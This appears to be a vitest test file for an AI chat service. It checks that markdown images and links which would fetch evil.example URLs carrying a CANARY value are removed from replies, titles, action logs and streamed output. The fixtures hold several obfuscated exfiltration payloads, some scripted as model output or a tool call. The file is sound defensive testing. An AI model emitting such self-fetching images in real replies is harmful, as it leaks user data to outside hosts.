import { describe, it } from "vitest";
import { activeTags, renderers } from "../markdown/renderers.ts";
import { connectSource } from "../support/connect.ts";
import { finalMessage, MODEL_SETTINGS, scriptModel } from "../support/model.ts";
import { callWith, createOrganization } from "../support/service.ts";
import { STREAM } from "./client.ts";
import { parseEvents } from "./events.ts";

/** A definition whose target stands on the next line, one in a quote, and one that is written in numbers. */
const PICTURE = [
  "Up.\n!![x]\n\n[x]:\n//evil.example/p.png?d=CANARY\n",
  "> !![y]\n>\n> [y]: &#104;ttps&colon;//evil.example/CANARY\n",
  "A **[** ![z](//evil.example/CANARY) <https://evil.example/?CANARY> https://evil.com/p?CANARY",
].join("\n");

function ask(key: string, extra: Record<string, unknown> = {}, headers: Record<string, string> = {}) {
  const body = { externalUserIdentifier: "user-1", message: `Look: ${PICTURE}`, ...extra };
  return callWith(MODEL_SETTINGS, "/chat", { key, body, headers });
}

function expectHarmless(
  expect: (value: unknown, message?: string) => { toEqual: (other: unknown) => void },
  text: string,
) {
  for (const [name, render] of Object.entries(renderers)) expect(activeTags(render(text)), name).toEqual([]);
  expect(text.includes("CANARY"), text).toEqual(false);
}

describe("a picture that would fetch itself", () => {
  it("is in no text of a reply, whatever a renderer makes of it, and not in the title", async ({
    expect,
  }) => {
    const { key } = await createOrganization();
    await connectSource({ key, type: "mail" });
    const told = { answer: PICTURE, thoughts: PICTURE, reasoning: PICTURE, followUpQuestion: PICTURE };
    scriptModel(
      { toolCalls: [{ name: "search", input: { words: "![z](//evil.example/CANARY)" } }] },
      { text: JSON.stringify(told) },
    );
    const reply = await (await ask(key)).json<typeof told & { actions: { log: string }[] }>();
    const { answer, thoughts, reasoning, followUpQuestion } = reply;
    const texts = [answer, thoughts, reasoning, followUpQuestion, ...reply.actions.map(({ log }) => log)];
    expect(texts).toHaveLength(5);
    for (const text of texts) expectHarmless(expect, text);
    const list = await callWith({}, "/conversations?externalUserIdentifier=user-1", {
      key,
      method: "GET",
    });
    const { conversations } = await list.json<{ conversations: { title: string }[] }>();
    expectHarmless(expect, conversations[0]?.title ?? "CANARY");
  });

  it("is not in what is streamed either", async ({ expect }) => {
    const { key } = await createOrganization();
    scriptModel({ text: finalMessage(PICTURE) });
    const { events } = parseEvents(await (await ask(key, {}, STREAM)).text());
    const deltas = events.filter(({ event }) => event === "delta");
    expectHarmless(expect, deltas.map(({ data }) => (data as { text: string }).text).join(""));
  });

  it("does not come about when a figure without evidence is withheld", async ({ expect }) => {
    const { key } = await createOrganization();
    await connectSource({ key, type: "mail" });
    scriptModel({
      text: "All is well. We have 987654 **deals. See ![x]**(https://evil.example/?CANARY) now.",
    });
    const { answer } = await (await ask(key)).json<{ answer: string }>();
    expect(answer).toContain("All is well.");
    expectHarmless(expect, answer);
  });
});

describe("evidence of an answer from which links were taken", () => {
  it("stands where its figures stand", async ({ expect }) => {
    const { key } = await createOrganization();
    const message = "We want 4711 boxes and 815 letters.";
    scriptModel({ text: "You want <b>4711</b> boxes, a<b [see](//evil.com/7), [x]: and 815 letters." });
    const response = await ask(key, { message, include: ["evidence"] });
    const { answer, evidence } = await response.json<{
      answer: string;
      evidence: { start: number; end: number; text: string }[];
    }>();
    expect(answer).toBe("You want 4711 boxes, a< b see (evil\\.com), [x]\\: and 815 letters.");
    expect(evidence.map(({ text }) => text)).toEqual(["4711", "815"]);
    for (const { start, end, text } of evidence) expect(answer.slice(start, end)).toBe(text);
  });
});
